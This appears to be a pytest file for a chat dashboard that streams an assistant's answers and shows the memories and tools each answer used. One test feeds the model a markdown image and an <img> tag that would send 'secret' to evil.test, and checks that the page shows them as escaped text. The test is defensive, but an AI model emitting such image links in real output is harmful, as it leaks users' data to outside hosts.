"""The chat page and its clients over real services (SQLite, the hashing embedder, the scripted model): the
in-process client (ChatService.stream) and the HTTP one (POST /v1/chat/stream through the app's TestClient)
give the same events; the page streams the answer, keeps the conversation, lays out the memories and tools
an answer used, links to an explanation only when the API has the route, and shows failures as a banner."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import httpx
import panel as pn
import pytest

from assistant.services import Services
from dashboards.chat import ChatPage, memories_frame, tools_frame, used_panel
from dashboards.chat_client import HttpChatClient, LocalChatClient, explain_template
from dashboards.client import ClientError
from dashboards.text import literal_html, literal_markdown

MEMORY = "My sister Ada lives in Lisbon"


def owner(services: Services) -> str:
    return str(services.keys.owner_user_id())


def transport(client, openapi: dict | None = None) -> httpx.MockTransport:  # noqa: ANN001
    def handle(request: httpx.Request) -> httpx.Response:
        if openapi is not None and request.url.path == "/api-docs/openapi.json":
            return httpx.Response(200, json=openapi)
        answer = client.request(request.method, request.url.raw_path.decode(), content=request.content,
                                headers=dict(request.headers))
        return httpx.Response(answer.status_code, content=answer.content, headers=answer.headers)

    return httpx.MockTransport(handle)


def collect(stream) -> list[tuple[str, dict[str, Any]]]:  # noqa: ANN001
    async def run() -> list:
        return [item async for item in stream]

    return asyncio.run(run())


class Recording:
    """A client whose stream is the wrapped one's, noting what the page's answer showed after each event."""

    def __init__(self, inner, page_of) -> None:  # noqa: ANN001
        self.inner, self.page_of, self.shown = inner, page_of, []

    async def stream(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
        async for item in self.inner.stream(*args, **kwargs):
            yield item
            answer = self.page_of().feed.objects[-1].objects[1]
            self.shown.append(answer.object)

    def explain_url(self, done):  # noqa: ANN001, ANN201
        return self.inner.explain_url(done)


@pytest.fixture
def local(services: Services) -> LocalChatClient:
    services.memory.add(owner(services), MEMORY, memory_type="fact", importance=0.9)
    return LocalChatClient(services.chat, owner(services))


@pytest.fixture
def http(client, api_key) -> HttpChatClient:  # noqa: ANN001
    return HttpChatClient("http://api.test", api_key, transport=transport(client))


def test_both_clients_stream_the_same_events(services, local, http, model) -> None:  # noqa: ANN001
    model.enqueue("Ada lives in Lisbon.")
    model.enqueue("Ada lives in Lisbon.")
    mine, theirs = collect(local.stream(MEMORY)), collect(http.stream(MEMORY))
    assert [e for e, _ in mine] == [e for e, _ in theirs] and mine[-1][0] == "done" and mine[0][0] == "message"
    assert "".join(d["delta"] for e, d in mine if e == "message") == "Ada lives in Lisbon."
    done_local, done_http = mine[-1][1], theirs[-1][1]
    assert set(done_local) == set(done_http) == {"tokens", "conversation_id", "message_id", "model", "tool_runs",
                                                 "memories"}
    for done in (done_local, done_http):
        assert [(m["memory_type"], m["content"]) for m in done["memories"]] == [("Fact", MEMORY)]
        assert set(done["memories"][0]) == {"id", "memory_type", "content", "relevance", "similarity"}
    # the conversation goes on
    model.enqueue("Yes.")
    more = collect(http.stream("And her brother?", done_http["conversation_id"]))
    assert more[-1][1]["conversation_id"] == done_http["conversation_id"]
    assert [m.content for m in model.calls[-1][0] if m.role == "user"][-2:] == [MEMORY, "And her brother?"]


def test_tool_runs_reach_the_done_event(local, model) -> None:  # noqa: ANN001
    model.enqueue(tool_calls=[("store_memory", {"content": "My brother is called Tom", "memory_type": "fact"})])
    model.enqueue("Noted.")
    done = collect(local.stream("Remember that my brother is called Tom"))[-1][1]
    assert [(r["tool"], r["status"]) for r in done["tool_runs"]] == [("store_memory", "ok")]
    frame = tools_frame(done)
    assert list(frame["tool"]) == ["store_memory"] and "Tom" in frame.iloc[0]["arguments"]


def test_failures_are_client_errors(local, http) -> None:  # noqa: ANN001
    for c in (local, http):
        with pytest.raises(ClientError) as unknown:
            collect(c.stream("hello", "00000000-0000-4000-8000-000000000000"))
        assert unknown.value.status == 404


def test_the_explain_link_only_when_the_route_exists(client, api_key) -> None:  # noqa: ANN001
    assert explain_template({"/v1/chat": {"post": {}}}) is None
    assert explain_template({"/api/chat/{conversation_id}/explain": {"get": {}}}) == (
        "/api/chat/{conversation_id}/explain", "conversation_id")
    done = {"conversation_id": "c1", "message_id": "m1"}
    served = HttpChatClient("http://api.test", api_key, transport=transport(client))
    assert served.explain_url(done) == "http://api.test/api/chat/m1/explain"  # the API serves the route
    assert served.explain_url({"conversation_id": "c2", "message_id": "m2"}) == "http://api.test/api/chat/m2/explain"
    older = HttpChatClient("http://api.test", api_key, transport=transport(client, {"paths": {
        "/v1/chat": {"post": {}}}}))
    assert older.explain_url(done) is None  # a server without the route: no link
    assert LocalChatClient(None, "u").explain_url(done) is None  # type: ignore[arg-type]


def test_the_page_streams_and_keeps_the_conversation(services, local, model) -> None:  # noqa: ANN001
    page: ChatPage | None = None
    recording = Recording(local, lambda: page)
    page = ChatPage(recording)
    model.enqueue("Ada lives in Lisbon.")
    page.input.value = MEMORY
    done = asyncio.run(page.send(page.input.value))
    assert page.input.value == "" and done["conversation_id"] == page.conversation_id
    deltas = [shown for shown in recording.shown[:-1]]
    assert len(deltas) >= 2 and deltas[0] != deltas[-1]  # the answer grew delta by delta
    assert deltas[-1] == literal_html("Ada lives in Lisbon.", "answer-text")
    user, reply = page.feed.objects
    assert MEMORY in user.object
    assert reply.objects[1].object == literal_html("Ada lives in Lisbon.", "answer-text")
    used = reply.objects[2]
    table = next(o for o in used.objects if isinstance(o, pn.widgets.Tabulator))
    assert list(table.value["content"]) == [MEMORY]
    first = page.conversation_id
    assert first and first in page.conversation.object and not page.banner.visible
    model.enqueue("Yes.")
    asyncio.run(page.send("Thanks"))
    assert page.conversation_id == first and len(page.feed.objects) == 4
    assert asyncio.run(page.send("   ")) is None and len(page.feed.objects) == 4
    page.new_conversation()
    assert page.conversation_id is None and page.feed.objects == []


def test_the_page_shows_a_banner_when_the_api_is_unreachable() -> None:
    page = ChatPage(HttpChatClient("http://127.0.0.1:9", "k", timeout=5))
    assert asyncio.run(page.send("hello")) is None
    assert page.banner.visible and "did not answer" in page.banner.object
    answer = page.feed.objects[-1].objects[1]
    assert "no answer" in answer.object and "chat-failed" in answer.css_classes
    assert not page.busy and not page.send_button.disabled


def test_the_used_panel_without_memories_or_tools() -> None:
    done = {"memories": [], "tool_runs": [], "model": "m", "tokens": {"total": 3}}
    panel = used_panel(done)
    assert "No memory reached the prompt" in panel.objects[0].object and memories_frame(done).empty
    linked = used_panel(done, "http://api.test/api/chat/m1/explain")
    assert "(http://api.test/api/chat/m1/explain)" in linked.objects[-1].object
    assert json.dumps(done)  # the shape stays plain JSON


def test_an_answer_is_shown_as_text_never_as_markup(local, model) -> None:  # noqa: ANN001
    page = ChatPage(local)
    model.enqueue("See ![x](https://evil.test/?q=secret) and <img src=https://evil.test/a.png>")
    asyncio.run(page.send("hi"))
    shown = page.feed.objects[-1].objects[1].object
    assert "<img" not in shown and "&lt;img" in shown and "![x](https://evil.test/?q=secret)" in shown
    assert isinstance(page.feed.objects[-1].objects[1], pn.pane.HTML)  # not Markdown: the image syntax stays text
    assert literal_markdown("![x](http://e/) <b>") == r"\!\[x\]\(http://e/\) &lt;b&gt;"
